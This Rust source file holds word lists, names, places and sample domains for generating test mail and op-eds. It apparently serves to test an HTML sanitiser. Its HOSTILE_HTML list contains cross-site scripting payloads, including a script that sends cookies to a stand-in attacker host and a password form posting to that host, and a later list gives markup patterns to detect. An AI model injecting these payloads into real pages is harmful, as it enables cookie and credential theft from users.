//! What the generated mail is made of: words, titles, names, and the markup
//! the sanitiser must remove or keep.

#[rustfmt::skip]
pub const WORDS: &[&str] = &[
    "the", "the", "the", "of", "of", "and", "and", "to", "to", "in", "in", "a", "a", "is", "that",
    "for", "it", "as", "with", "was", "on", "be", "by", "this", "are", "not", "but", "from", "or",
    "have", "an", "they", "which", "one", "you", "were", "all", "we", "when", "there", "can",
    "more", "no", "if", "than", "been", "its", "who", "now", "people", "city", "budget",
    "government", "ministry", "council", "water", "electricity", "schools", "teachers", "hospital",
    "roads", "ports", "trade", "farmers", "wages", "prices", "fuel", "subsidies", "reform",
    "election", "parliament", "court", "constitution", "elections", "youth", "women", "families",
    "migration", "coast", "desert", "oil", "revenue", "banks", "currency", "inflation", "market",
    "public", "private", "local", "national", "regional", "municipal", "transparent", "fragile",
    "stable", "urgent", "overdue", "reasonable", "costly", "affordable", "accountable", "fair",
    "should", "must", "could", "would", "will", "never", "always", "often", "rarely", "again",
    "build", "spend", "invest", "reform", "protect", "measure", "publish", "explain", "listen",
    "decide", "share", "vote", "pay", "repair", "negotiate", "recover", "grow", "trust", "plans",
    "promises", "years", "decades", "months", "neighbourhoods", "streets", "clinics", "contracts",
    "audits", "numbers", "reports", "citizens", "officials", "donors", "lenders", "engineers",
    "café", "naïve", "résumé", "—", "“enough”", "‘later’", "2026", "40%", "€3m",
];

#[rustfmt::skip]
pub const TITLE_NOUNS: &[&str] = &[
    "budget", "water", "ports", "schools", "elections", "fuel subsidies", "the central bank",
    "municipal councils", "public hospitals", "the coast road", "youth unemployment", "the courts",
    "local taxes", "the electricity grid", "teachers' pay", "migration", "the audit office",
    "small farmers", "housing", "the currency",
];
#[rustfmt::skip]
pub const TITLE_ADJECTIVES: &[&str] = &[
    "transparent", "fair", "urgent", "honest", "local", "patient", "bold", "accountable", "quiet",
    "affordable", "overdue", "serious",
];
#[rustfmt::skip]
pub const PLACES: &[&str] = &[
    "Tripoli", "Benghazi", "Misrata", "Sabha", "Tunis", "Cairo", "Malta", "Amman", "Beirut",
    "Rabat", "Algiers", "Khartoum",
];

#[rustfmt::skip]
pub const FIRST_NAMES: &[&str] = &[
    "Amal", "Omar", "Sara", "Khaled", "Layla", "Yusuf", "Mona", "Tarek", "Hana", "Nadia", "Samir",
    "Rania", "Karim", "Salma", "Hassan", "Ines", "Fatima", "Walid", "Dina", "Adam", "Claire",
    "Marco", "Elena", "Jonas", "Priya", "Tom", "Lucia", "Anders",
];
#[rustfmt::skip]
pub const LAST_NAMES: &[&str] = &[
    "Haddad", "Salem", "Mansour", "Nasser", "Khalil", "Aziz", "Farouk", "Hamdi", "Zayed", "Saleh",
    "Benali", "Gharbi", "Obeidi", "Fitouri", "Rossi", "Moreau", "Berg", "Iyer", "Walsh", "Novak",
];
pub const ARABIC_NAMES: &[&str] = &[
    "خالد المبروك",
    "أمل الحداد",
    "عمر سالم",
    "ليلى منصور",
    "يوسف ناصر",
    "منى الفيتوري",
    "طارق العبيدي",
    "هناء زايد",
];
#[rustfmt::skip]
pub const DOMAINS: &[&str] = &[
    "example.com", "example.org", "example.net", "example.ly", "mail.example", "uni.example.edu",
];

#[rustfmt::skip]
pub const ARABIC_WORDS: &[&str] = &[
    "إن", "في", "من", "على", "إلى", "أن", "التي", "الذي", "هذا", "هذه", "مع", "عن", "كل", "بين",
    "الميزانية", "الحكومة", "المدينة", "المياه", "الكهرباء", "المدارس", "المعلمين", "المستشفى",
    "الطرق", "الموانئ", "التجارة", "المزارعين", "الأجور", "الأسعار", "الوقود", "الدعم", "الإصلاح",
    "الانتخابات", "البرلمان", "المحكمة", "الدستور", "الشباب", "النساء", "الأسر", "الساحل",
    "الصحراء", "النفط", "الإيرادات", "المصارف", "العملة", "التضخم", "السوق", "الموحدة", "العامة",
    "المحلية", "الوطنية", "يجب", "يمكن", "نحتاج", "نبني", "ننفق", "نستثمر", "نحمي", "ننشر", "نشرح",
    "نستمع", "نقرر", "سنوات", "عقود", "أشهر", "الأحياء", "الشوارع", "العقود", "التقارير",
    "المواطنين", "المسؤولين", "ليبيا", "طرابلس", "بنغازي", "مصراتة", "سبها",
];
pub const ARABIC_TITLES: &[&str] = &[
    "لماذا تحتاج ليبيا إلى ميزانية موحدة",
    "مستقبل الانتخابات في ليبيا",
    "أزمة المياه في الجنوب",
    "الكهرباء قبل الصيف",
    "إصلاح دعم الوقود دون إيذاء الأسر",
    "المدارس تستحق أكثر",
    "الموانئ ومستقبل التجارة",
    "الشباب والعمل في المدن",
];

/// Fragments a sanitiser must remove, spread through the HTML op-eds.
pub const HOSTILE_HTML: &[&str] = &[
    "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
    "<img src=\"x\" onerror=\"alert(document.domain)\">",
    "<a href=\"javascript:alert(1)\">read the full report</a>",
    "<iframe src=\"https://evil.example/frame\" width=\"1\" height=\"1\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<form action=\"https://evil.example/login\"><input type=\"password\" name=\"p\"></form>",
    "<svg onload=\"alert(1)\"><circle r=\"1\"/></svg>",
    "<style>body { background: url('javascript:alert(1)') }</style>",
    "<div onclick=\"steal()\" style=\"position:fixed;top:0\">click</div>",
];
/// Markup the sanitiser must let through or drop harmlessly.
pub const BENIGN_HTML: &[&str] = &[
    "<a href=\"https://example.org/source\">the ministry's figures</a>",
    "<b>this matters</b>",
    "<i>in the long run</i>",
    "<span style=\"color:#333\">as the report says</span>",
];
/// What must not survive sanitising (checked on every HTML op-ed).
pub const FORBIDDEN_AFTER_SANITISING: &[&str] = &[
    "<script",
    "onerror",
    "javascript:",
    "<iframe",
    "<object",
    "<form",
    "onload",
    "onclick",
];
